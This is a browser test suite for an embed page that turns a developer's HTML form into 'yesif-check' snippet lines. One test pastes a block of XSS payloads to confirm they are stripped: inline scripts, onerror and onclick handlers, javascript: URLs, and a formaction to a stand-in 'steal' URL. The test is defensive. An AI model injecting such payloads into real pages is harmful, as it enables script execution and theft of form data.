// Browser tests of the embed page (www/embed.html): a web developer's form goes in, suggested
// matches and the `<yesif-check>` lines come out, and those lines work on the developer's page
// once the files are copied as the README says. Pasted HTML never runs.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { axe, newPage, recordViolations, useBrowser } from './lib.mjs';
import { CSP } from '../../www/serve.mjs';

const env = useBrowser();

const EXPECTED_SNIPPET = `<script type="module" src="/yesif/yesif-check.js"></script>
<yesif-check for="NewItemForm"
  rules="/yesif/ld-intake.rhai"
  field-map="requester_name=RequestorName, requester_email=RequestorEmail, business_unit=Department, business_priority=StrategicGoal, business_outcome=DesiredOutcome, audience_roles=TargetAudience, audience_size=NumberOfLearners, barriers=Obstacles, needed_by=DueDate"
  value-map="business_unit: Customer Service=Customer Operations; barriers: Don't know how=knowledge; Need practice=skill"></yesif-check>`;

async function openEmbed(options) {
  const page = await newPage(env.browser, options);
  await recordViolations(page);
  await page.goto(env.server.url('/www/embed.html'));
  await page.waitForFunction(() => document.documentElement.dataset.ready === 'true');
  return page;
}

/** Opens the example form through "open a page on this site", with the keyboard. */
async function openExample(page) {
  await page.focus('#url-input');
  await page.keyboard.press('Enter');
  await page.locator('#map-step').waitFor();
}

const snippetText = (page) => page.locator('#snippet').textContent();
const previewCheck = (page, expression) => page.evaluate(`(() => { const c = document.querySelector('#preview').shadowRoot.querySelector('yesif-check'); return ${expression}; })()`);

describe('the embed page', () => {
  test('reads the example form: controls matched to rule fields, choice values matched or flagged, the lines to add', async () => {
    const page = await openEmbed();
    await openExample(page);
    assert.equal(await page.locator('#form-status').textContent(), 'Read 9 controls from <form id="NewItemForm">.');
    assert.equal(await snippetText(page), EXPECTED_SNIPPET);
    assert.equal(await page.locator('#map-status').textContent(),
      '9 of 31 rule fields are on your form; the other 22 become questions L&D will ask later. 5 choice values need a look.');
    const later = await page.locator('#later-rows tr').evaluateAll((rows) => rows.map((r) => r.dataset.field));
    assert.equal(later.length, 22);
    assert.ok(later.includes('sponsor') && later.includes('desired_behaviour'));
    const badges = await page.locator('#mapping-rows tr[data-field="barriers"] .values li').evaluateAll((items) => items.map((li) => [li.querySelector('.host-value').textContent, li.querySelector('select').value, li.querySelector('.badge').textContent]));
    assert.deepEqual(badges, [
      ["Don't know how", 'knowledge', 'suggested: check it'],
      ['Need practice', 'skill', 'suggested: check it'],
      ['Tools or systems', 'tools', 'matches'],
      ['Time or workload', 'workload', 'matches'],
      ['Other', '', 'no match: left out'],
    ]);
    assert.deepEqual(page.errors, []);
  });

  test('the generated lines work on the developer\'s page, with the files copied as the README says', async () => {
    const page = await openEmbed();
    await openExample(page);
    const lines = await snippetText(page);
    const formHtml = readFileSync(new URL('../../www/embed/example-form.html', import.meta.url), 'utf8');
    const host = await newPage(env.browser);
    // The developer's site: their page, and the four things the README's copy step puts in /yesif/.
    const copied = { 'yesif-check.js': '/www/yesif-check.js', 'yesif-check/': '/www/yesif-check/', 'pkg/': '/www/pkg/', 'ld-intake.rhai': '/rules/ld-intake.rhai' };
    await host.route('**/yesif/**', async (route) => {
      const path = new URL(route.request().url()).pathname.slice('/yesif/'.length);
      const [dest, source] = Object.entries(copied).find(([d]) => (d.endsWith('/') ? path.startsWith(d) : path === d)) ?? [];
      if (!dest) return route.fulfill({ status: 404, body: 'not copied' });
      const response = await route.fetch({ url: env.server.url(source + path.slice(dest.length)) });
      await route.fulfill({ response });
    });
    await host.route('**/intranet/request.html', (route) => route.fulfill({
      contentType: 'text/html; charset=utf-8',
      headers: { 'content-security-policy': CSP },
      body: formHtml.replace('</body>', `${lines}\n</body>`),
    }));
    await host.goto(env.server.url('/intranet/request.html'));
    await host.waitForFunction(() => document.querySelector('yesif-check')?.status === 'scored');
    await host.selectOption('#Department', 'Customer Service');
    await host.fill('#DesiredOutcome', 'Reduce average handle time on billing calls from 9 to 7 minutes by March 2027');
    await host.check('input[name="Obstacles"][value="Don\'t know how"]');
    await host.waitForFunction(() => document.querySelector('yesif-check').request?.barriers);
    const seen = await host.evaluate(() => {
      const c = document.querySelector('yesif-check');
      return { request: c.request, asked: c.asked.length, followups: c.report.followups.length };
    });
    assert.deepEqual(seen.request.barriers, ['knowledge']);
    assert.equal(seen.request.business_unit, 'Customer Operations');
    assert.equal(seen.asked, 9);
    assert.ok(seen.followups > 0);
    assert.deepEqual(host.errors, []);
    assert.deepEqual(host.warnings.filter((w) => w.includes('<yesif-check>')), []);
  });

  test('changing a match updates the lines and the live preview', async () => {
    const page = await openEmbed();
    await openExample(page);
    await page.locator('#preview yesif-check').waitFor();
    await page.waitForFunction(() => document.querySelector('#preview').shadowRoot.querySelector('yesif-check').status === 'scored');
    // "Other" → not sure yet, chosen with the keyboard.
    const other = page.locator('#mapping-rows tr[data-field="barriers"] .values li', { hasText: 'Other' }).locator('select');
    await other.focus();
    await other.selectOption('not_sure');
    assert.match(await snippetText(page), /barriers: Don't know how=knowledge; Need practice=skill; Other=not_sure"/);
    assert.equal(await page.evaluate(() => document.activeElement.getAttribute('aria-label')), 'Rule option for “Other” (barriers)', 'the focus stays on the select');
    await page.locator('#preview input[name="Obstacles"][value="Other"]').check();
    await page.waitForFunction(() => document.querySelector('#preview').shadowRoot.querySelector('yesif-check').request?.barriers?.[0] === 'not_sure');
    // The audience's roles are not on the form after all: a follow-up question now.
    await page.locator('#mapping-rows tr[data-field="audience_roles"] select').selectOption('');
    assert.doesNotMatch(await snippetText(page), /audience_roles=/);
    assert.equal(await page.locator('#later-rows tr[data-field="audience_roles"]').count(), 1);
    await page.locator('#preview textarea[name="DesiredOutcome"]').fill('Cut errors');
    await page.waitForFunction(() => !document.querySelector('#preview').shadowRoot.querySelector('yesif-check').asked.includes('audience_roles'));
    assert.equal(await previewCheck(page, 'c.asked.length'), 8);
  });

  test('pasted HTML never runs: no script, no handler, no URL; nothing is loaded', async () => {
    const page = await openEmbed();
    let dialogs = 0;
    page.on('dialog', (d) => { dialogs += 1; d.dismiss(); });
    const hostile = `<form id="f" action="javascript:alert(1)" onsubmit="window.__x=1">
      <script>window.__x = 2</script><style>body{display:none}</style>
      <img src=x onerror="window.__x=3"><iframe srcdoc="<script>parent.__x=4</script>"></iframe>
      <label for="goal">Goal</label><textarea id="goal" name="goal" onfocus="window.__x=5" autofocus></textarea>
      <a href="javascript:window.__x=6">help</a><svg><script>window.__x=7</script></svg>
      <button formaction="https://example.com/steal" onclick="window.__x=8">Send</button></form>`;
    await page.fill('#html-input', hostile);
    await page.locator('#preview-step').waitFor();
    const preview = await page.evaluate(() => {
      const root = document.querySelector('#preview').shadowRoot;
      const all = [...root.querySelectorAll('form, form *')];
      return {
        dangerous: root.querySelectorAll('script, style, img, iframe, svg, a[href]').length,
        handlers: all.flatMap((n) => [...n.attributes].map((a) => a.name)).filter((n) => n.startsWith('on') || ['action', 'formaction', 'src', 'href', 'autofocus'].includes(n)),
      };
    });
    assert.deepEqual(preview, { dangerous: 0, handlers: [] });
    await page.locator('#preview textarea').focus();
    await page.locator('#preview form button').click();
    assert.equal(await page.evaluate(() => window.__x), undefined);
    assert.equal(dialogs, 0);
    assert.ok(page.url().endsWith('/www/embed.html'), 'the preview form was not sent');
    // Parsing the paste is all that meets the page's policy: Chromium reports each inline handler
    // and style it parses (in DOMParser's inert document) as blocked. Nothing is loaded or run.
    const violations = await page.evaluate(() => window.__violations);
    assert.ok(violations.every((v) => /^(script-src-attr|style-src-elem|style-src-attr) inline$/.test(v)), violations.join('\n'));
    assert.match(await snippetText(page), /<yesif-check for="f"\n  rules="\/yesif\/ld-intake.rhai"\n  field-map="business_outcome=goal"><\/yesif-check>/);
  });

  test('what it cannot read is said plainly: no form controls, a page of another site', async () => {
    const page = await openEmbed();
    await page.fill('#html-input', '<p>Just text</p>');
    await page.waitForFunction(() => document.getElementById('form-status').classList.contains('error'));
    assert.equal(await page.locator('#form-status').textContent(), 'No form controls with a name were found in that HTML.');
    assert.equal(await page.locator('#map-step').isVisible(), false);
    await page.fill('#url-input', 'https://example.com/form.html');
    await page.click('#url-open');
    await page.waitForFunction(() => document.getElementById('form-status').textContent.startsWith('Only pages on this site'));
  });

  test('axe-core finds no serious or critical violations, light and dark', async () => {
    for (const colorScheme of ['light', 'dark']) {
      const page = await openEmbed({ colorScheme });
      await openExample(page);
      await page.locator('#later summary').click();
      await page.waitForFunction(() => document.querySelector('#preview').shadowRoot.querySelector('yesif-check')?.status === 'scored');
      assert.deepEqual(await axe(page), [], colorScheme);
      await page.close();
    }
  });
});
